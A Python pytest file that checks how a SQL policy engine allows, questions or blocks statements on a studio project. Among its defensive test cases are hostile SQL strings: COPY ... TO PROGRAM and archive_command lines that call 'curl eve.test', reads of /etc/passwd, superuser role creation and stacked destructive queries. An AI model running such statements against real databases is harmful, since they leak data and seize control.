"""What may be written or defined on a studio project: allowed, asked about with a dry run, or blocked."""

import pytest

from apps.policies.contracts import ApprovalKind, Dialect, Outcome, Purpose, TargetKind
from apps.policies.engine.limits import Limits
from apps.policies.engine.safety import Review, review
from apps.policies.engine.statement import Context

ALLOW, ASK, BLOCK = "allow", "ask", "block"
CASES = [
    (Purpose.WRITE, ALLOW, "INSERT INTO orders (id, at) VALUES ($1, now()) RETURNING id"),
    (Purpose.WRITE, ALLOW, "INSERT INTO archive SELECT * FROM orders WHERE at < '2020-01-01'"),
    (Purpose.WRITE, ALLOW, "INSERT INTO orders VALUES (nextval('orders_id_seq')) ON CONFLICT DO NOTHING"),
    (Purpose.WRITE, ASK, "INSERT INTO orders VALUES (1) ON CONFLICT (id) DO UPDATE SET note = 'x'"),
    (Purpose.WRITE, ASK, "UPDATE orders SET note = '' WHERE id = 1"),
    (Purpose.WRITE, ASK, "DELETE FROM orders"),
    (Purpose.WRITE, ASK, "TRUNCATE orders"),
    (Purpose.WRITE, ASK, "MERGE INTO orders USING new ON orders.id = new.id WHEN NOT MATCHED THEN INSERT VALUES (1)"),
    (Purpose.WRITE, ASK, "WITH gone AS (DELETE FROM orders RETURNING *) INSERT INTO archive SELECT * FROM gone"),
    (Purpose.WRITE, BLOCK, "INSERT INTO orders VALUES (1); DELETE FROM orders"),
    (Purpose.WRITE, BLOCK, "INSERT INTO orders SELECT pg_read_file('/etc/passwd')"),
    (Purpose.WRITE, BLOCK, "INSERT INTO orders SELECT my_function(1)"),
    (Purpose.WRITE, BLOCK, "INSERT INTO orders SELECT rolname FROM pg_roles"),
    (Purpose.WRITE, BLOCK, "UPDATE pg_catalog.pg_class SET relname = 'x'"),
    (Purpose.WRITE, BLOCK, "CREATE TABLE t (id int)"),
    (Purpose.WRITE, BLOCK, "COPY orders TO PROGRAM 'curl eve.test'"),
    (Purpose.WRITE, BLOCK, "COPY orders FROM '/etc/passwd'"),
    (Purpose.WRITE, BLOCK, "DO $$ BEGIN DELETE FROM orders; END $$"),
    (Purpose.WRITE, BLOCK, "CALL purge()"),
    (Purpose.GRID_EDIT, ALLOW, "UPDATE orders SET note = $1 WHERE id = $2 AND xmin = '7'::xid"),
    (Purpose.GRID_EDIT, ALLOW, "DELETE FROM orders WHERE id = 1 AND note IS NOT DISTINCT FROM NULL"),
    (Purpose.GRID_EDIT, ASK, "DELETE FROM orders WHERE id > 1"),
    (Purpose.GRID_EDIT, ASK, "UPDATE orders SET note = '' WHERE id = 1 OR true"),
    (Purpose.GRID_EDIT, ASK, "DELETE FROM orders WHERE id = id"),
    (Purpose.GRID_EDIT, BLOCK, "TRUNCATE orders"),
    (Purpose.DDL, ALLOW, "CREATE TABLE t (id bigint PRIMARY KEY DEFAULT nextval('s'), at timestamptz DEFAULT now())"),
    (Purpose.DDL, ALLOW, "CREATE INDEX CONCURRENTLY ON orders (lower(note))"),
    (Purpose.DDL, ALLOW, "CREATE VIEW v AS SELECT * FROM orders"),
    (Purpose.DDL, ASK, "CREATE OR REPLACE VIEW v AS SELECT * FROM orders"),
    (Purpose.DDL, ASK, "ALTER TABLE orders DROP COLUMN note"),
    (Purpose.DDL, ASK, "DROP TABLE orders CASCADE"),
    (Purpose.DDL, ASK, "REVOKE SELECT ON orders FROM reader"),
    (Purpose.DDL, ASK, "CREATE POLICY own ON orders USING (owner = current_setting('request.jwt.claims', true))"),
    (Purpose.DDL, BLOCK, "ALTER TABLE orders OWNER TO postgres"),
    (Purpose.DDL, BLOCK, "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'"),
    (Purpose.DDL, BLOCK, "CREATE EXTENSION dblink"),
    (Purpose.DDL, BLOCK, "CREATE ROLE eve SUPERUSER"),
    (Purpose.DDL, BLOCK, "GRANT postgres TO eve"),
    (Purpose.DDL, BLOCK, "ALTER SYSTEM SET archive_command = 'curl eve.test'"),
    (Purpose.DDL, BLOCK, "ALTER DATABASE studio SET standard_conforming_strings = off"),
    (Purpose.DDL, BLOCK, "CREATE TABLE t AS EXECUTE prepared"),
    (Purpose.DDL, BLOCK, "CREATE VIEW v AS SELECT pg_sleep(10)"),
    (Purpose.DDL, BLOCK, "CREATE TABLE t (a int DEFAULT pg_terminate_backend(1)::int)"),
    (Purpose.MIGRATION, ALLOW, "CREATE TABLE t (id int); INSERT INTO t VALUES (1); CREATE INDEX ON t (id)"),
    (Purpose.MIGRATION, ASK, "CREATE TABLE t (id int); ALTER TABLE orders ADD COLUMN t int"),
    (Purpose.MIGRATION, BLOCK, "CREATE TABLE t (id int); COMMIT; DROP TABLE orders"),
    (Purpose.MIGRATION, BLOCK, "CREATE TABLE t (id int); SET ROLE postgres"),
    (Purpose.RESTORE, ASK, "INSERT INTO orders VALUES (1)"),
]  # fmt: skip


def judged(purpose: Purpose, sql: str, **changes: object) -> Review:
    context = Context(Dialect.POSTGRES, purpose, Limits(), target=TargetKind.STUDIO_PROJECT)
    values = {name: getattr(context, name) for name in Context.__slots__} | changes
    return review(sql, Context(**values))


def verdict(found: Review) -> str:
    if found.blocked:
        return BLOCK
    return ASK if any(each.outcome is Outcome.ASK for each in found.findings) else ALLOW


@pytest.mark.parametrize(("purpose", "expected", "sql"), CASES, ids=[f"{case[0]} {case[2]}" for case in CASES])
def test_a_statement_is_decided_by_its_purpose(purpose: Purpose, expected: str, sql: str) -> None:
    found = judged(purpose, sql)
    assert verdict(found) == expected, found.findings
    assert expected == BLOCK or found.sql == sql
    if expected == ASK:
        assert {each.approval for each in found.findings} == {ApprovalKind.DESTRUCTIVE}


@pytest.mark.parametrize("target", [each for each in TargetKind if each is not TargetKind.STUDIO_PROJECT])
@pytest.mark.parametrize("purpose", [each for each in Purpose if each is not Purpose.READ])
def test_nothing_but_a_studio_project_is_written_to(purpose: Purpose, target: TargetKind) -> None:
    found = judged(purpose, "INSERT INTO orders VALUES (1)", target=target)
    assert [each.rule for each in found.findings] == ["purpose"]
    assert judged(purpose, "INSERT INTO d.t VALUES (1)", dialect=Dialect.BIGQUERY).blocked


def test_a_finding_of_a_migration_names_the_line_of_its_statement() -> None:
    found = judged(Purpose.MIGRATION, "CREATE TABLE t (id int);\n\n  DROP TABLE orders;")
    assert [(each.line, each.column) for each in found.findings] == [(3, 3)]
